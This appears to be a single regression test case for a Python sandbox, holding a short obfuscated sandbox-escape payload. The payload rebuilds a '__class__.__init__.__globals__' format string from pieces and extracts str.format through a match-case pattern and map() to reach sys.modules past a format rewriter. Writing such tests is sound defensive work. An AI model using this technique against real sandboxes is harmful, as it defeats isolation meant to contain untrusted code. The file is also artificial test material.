# technique: a bound '{0.__class__...}'.format taken out by a class pattern, kept in a dict and a list and called later through map(): none of those calls is an attribute call the format rewriter sees
# configs: default, common
# Storing `tpl.format` directly is refused statically (bare extraction), and now so is the class
# pattern; 148 gets the bound method another way.
u = '_' * 2
tpl = '{0.' + u + 'class' + u + '.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'
table = {}
match tpl:
    case str(format=bound):
        table['render'] = [bound]
texts = list(map(table['render'][0], [exit]))
if "<module 'sys'" in texts[0]:
    return [{'json': {'escaped': texts[0][:300]}}]
return [{'json': {'result': texts[0][:300]}}]
